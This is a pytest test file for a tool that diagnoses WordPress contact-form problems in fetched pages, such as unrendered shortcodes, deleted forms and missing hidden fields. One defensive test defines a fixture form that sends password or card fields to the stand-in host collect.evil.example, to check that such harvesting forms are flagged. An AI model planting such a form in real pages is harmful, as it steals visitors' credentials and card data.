"""The form in its page: sound pages are accused of nothing; each fault of the markup is named."""

from __future__ import annotations

import pytest

from diagnostics.finding import Finding
from tests.unit.form_pages import (
    CF7,
    CF7_SCRIPTS,
    FIELDS,
    FORMIDABLE,
    GRAVITY,
    GRAVITY_SCRIPTS,
    JQUERY,
    NINJA,
    NINJA_SCRIPTS,
    SOUND,
    WPFORMS,
    WPFORMS_SCRIPTS,
    accused,
    fetched,
    form,
    html,
    judged,
    unknown,
)


def look(body: str, scripts: str = "", plugin: str = "contact-form-7", number: str = "5") -> list[Finding]:
    return judged(fetched(html(body, scripts)), form(plugin, number))


@pytest.mark.parametrize("plugin", SOUND)
def test_a_sound_form_of_each_plugin_is_accused_of_nothing(plugin: str) -> None:
    number, body, scripts = SOUND[plugin]
    for of in (form(plugin, number), None):
        findings = judged(fetched(html(body, scripts)), of)
        assert [each.code for each in findings] == ["form.page.sound"]


def test_a_page_with_forms_of_many_makers_is_judged_form_by_form() -> None:
    body = "".join(markup for _, markup, _ in SOUND.values())
    scripts = "".join(each for *_, each in SOUND.values())
    findings = judged(fetched(html(body, scripts)), None)
    assert not accused(findings) and len(findings) == len(SOUND)


def test_a_shortcode_that_nobody_turns_into_a_form_is_shown_as_it_is() -> None:
    findings = look("<p>[contact-form-7 id=&#8221;5&#8243; title=&#8221;x&#8221;]</p>")
    assert accused(findings) == ["shortcode_shown"]
    assert findings[0].remedy and "[contact-form-7 id=" in findings[0].remedy.copy
    assert accused(judged(fetched(html("<p>[contact-form-7 id=5]</p>")), None)) == ["shortcode_shown"]


def test_a_shortcode_in_a_code_sample_or_of_another_form_is_no_fault_of_this_one() -> None:
    assert accused(judged(fetched(html("<pre>[contact-form-7 id=5]</pre>" + CF7, CF7_SCRIPTS)), None)) == []
    assert accused(look("<p>[contact-form-7 id=88]</p>")) == ["form_missing"]


@pytest.mark.parametrize(
    ("plugin", "body"),
    [
        (
            "contact-form-7",
            '<p class="wpcf7-contact-form-not-found"><strong>Error:</strong> Contact form not found.</p>',
        ),
        ("contact-form-7", '<p class="wpcf7-contact-form-not-found">Kontaktformular wurde nicht gefunden.</p>'),
        ("contact-form-7", '<p>[contact-form-7 404 "Not Found"]</p>'),
        ("gravityforms", '<p class="gform_not_found">Oops! We could not locate your form.</p>'),
        ("formidable", "<p>Please select a valid form</p>"),
        ("ninja-forms", "No Fields Found." + NINJA),
    ],
)
def test_the_words_of_a_deleted_form_name_it_as_the_cause(plugin: str, body: str) -> None:
    assert accused(look(body, NINJA_SCRIPTS, plugin)) == ["form_deleted"]


def test_a_form_that_is_not_in_a_whole_page_is_missing() -> None:
    assert accused(look("<p>Nothing here.</p>", plugin="wpforms")) == ["form_missing"]


@pytest.mark.parametrize("plugin", ["woocommerce", "some-other-forms"])
def test_a_form_that_may_rightly_not_be_there_is_unknown(plugin: str) -> None:
    findings = look("<p>Your cart is empty.</p>", plugin=plugin, number="checkout")
    assert unknown(findings) == ["not_drawn"] and accused(findings) == []


@pytest.mark.parametrize(
    ("classes", "number"),
    [
        ("checkout woocommerce-checkout", "checkout"),
        ("woocommerce-form woocommerce-form-register register", "register"),
        ("woocommerce-ResetPassword lost_reset_password", "lostpassword"),
    ],
)
def test_the_forms_of_a_shop_are_known_by_their_classes(classes: str, number: str) -> None:
    assert accused(look(f'<form method="post" class="{classes}">{FIELDS}</form>', "", "woocommerce", number)) == []


def test_a_form_in_a_template_or_a_comment_is_not_on_the_page() -> None:
    assert accused(look(f"<template>{CF7}</template><!-- {CF7} -->", CF7_SCRIPTS)) == ["form_missing"]


@pytest.mark.parametrize(
    ("plugin", "body", "scripts"),
    [
        ("gravityforms", GRAVITY, GRAVITY_SCRIPTS),
        ("wpforms", WPFORMS, WPFORMS_SCRIPTS),
        ("ninja-forms", NINJA, NINJA_SCRIPTS),
    ],
)
def test_the_same_form_twice_gets_in_its_own_way(plugin: str, body: str, scripts: str) -> None:
    assert accused(look(body + body, scripts, plugin)) == ["twice"]


def test_contact_form_7_gives_each_place_ids_of_its_own() -> None:
    assert accused(look(CF7 + CF7.replace("-o1", "-o2"), CF7_SCRIPTS)) == []


@pytest.mark.parametrize(
    ("plugin", "body", "scripts", "gone"),
    [
        ("contact-form-7", CF7, CF7_SCRIPTS, "_wpcf7_unit_tag"),
        ("gravityforms", GRAVITY, GRAVITY_SCRIPTS, "state_5"),
        (
            "formidable",
            FORMIDABLE,
            JQUERY + '<script src="/wp-content/plugins/formidable/js/frm.min.js"></script>',
            "frm_action",
        ),
    ],
)
def test_a_hidden_field_without_which_nothing_is_taken(plugin: str, body: str, scripts: str, gone: str) -> None:
    findings = look(body.replace(f'name="{gone}"', 'name="other"'), scripts, plugin)
    assert accused(findings) == ["hidden_missing"]
    assert findings[0].evidence["missing"] == [gone]


def test_hidden_fields_that_a_broken_nesting_leaves_outside_the_form_are_still_its_own() -> None:
    # As page builders leave it: the form ends inside a box that was opened in it. A browser binds what follows to it.
    body = GRAVITY.replace(FIELDS, f"<div>{FIELDS}</form>") + "</div>"
    assert accused(look(body, GRAVITY_SCRIPTS, "gravityforms")) == []


def test_a_form_that_a_script_will_fill_is_not_asked_for_its_fields() -> None:
    empty = '<form id="forminator-module-5" class="forminator-custom-form" data-form-id="5"></form>'
    _, _, scripts = SOUND["forminator"]
    assert accused(look(empty, scripts, "forminator")) == []


def test_a_page_without_any_form_that_is_known_says_so() -> None:
    assert unknown(judged(fetched(html('<form action="/search"><input name="s"></form>')), None)) == ["no_form"]


@pytest.mark.parametrize("asks", ['<input type="password" name="p">', '<input autocomplete="cc-number" name="n">'])
def test_a_stranger_form_that_sends_passwords_or_cards_elsewhere_is_told(asks: str) -> None:
    stranger = f'<form action="https://collect.evil.example/x" method="post"><input name="login">{asks}</form>'
    findings = look(CF7 + stranger, CF7_SCRIPTS)
    assert accused(findings) == ["stranger_form"]
    assert "collect.evil.example" in findings[-1].summary


def test_a_newsletter_of_another_service_is_no_stranger() -> None:
    letter = '<form action="https://bakery.us1.list-manage.com/subscribe/post"><input type="email" name="EMAIL"></form>'
    assert accused(look(CF7 + letter, CF7_SCRIPTS)) == []


def test_what_a_page_says_is_escaped_and_bounded_in_the_evidence() -> None:
    bad = "\x1b[31m" + "<script>x</script>" + "y" * 5000
    [finding] = look(f"<p>[contact-form-7 id=5 title={bad}]</p>".replace("[31m", ""))
    assert "\x1b" not in str(finding.to_json()) and len(str(finding.to_json())) < 6000
